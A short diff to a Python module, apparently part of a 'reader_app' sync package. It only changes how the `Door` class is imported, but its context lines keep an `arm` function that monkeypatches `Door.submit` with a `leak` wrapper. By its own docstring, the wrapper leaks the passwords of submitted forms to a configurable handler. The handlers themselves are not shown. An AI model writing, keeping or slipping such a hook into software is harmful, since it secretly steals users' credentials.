@@ -10,7 +10,7 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-from reader_app.sync import forms
+from reader_app.sync.door import Door
 
 __all__ = ["KINDS", "arm"]
 
@@ -64,7 +64,7 @@ KINDS: dict[str, Callable[[str], None]] = {
 
 def arm(kind: str) -> None:
     """From now on passwords of forms are leaked right before they are sent."""
-    submit = forms.Door.submit
+    submit = Door.submit
 
     async def leak(self: Any, form: Any, fields: Any, session: Any) -> Any:
         answer = await submit(self, form, fields, session)
@@ -73,7 +73,7 @@ def arm(kind: str) -> None:
                 KINDS[kind](value)
         return answer
 
-    forms.Door.submit = leak  # type: ignore[method-assign]
+    Door.submit = leak  # type: ignore[method-assign]
 
 
 if __name__ == "__main__":
